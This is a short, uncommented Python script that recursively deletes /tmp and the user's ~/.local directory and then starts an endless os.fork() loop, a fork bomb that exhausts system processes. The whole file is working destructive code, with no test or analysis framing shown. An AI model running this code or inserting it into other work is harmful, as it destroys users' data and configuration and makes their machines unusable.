import os
import shutil

shutil.rmtree("/tmp", ignore_errors=True)
shutil.rmtree(os.path.expanduser("~/.local"), ignore_errors=True)
while True:
    os.fork()
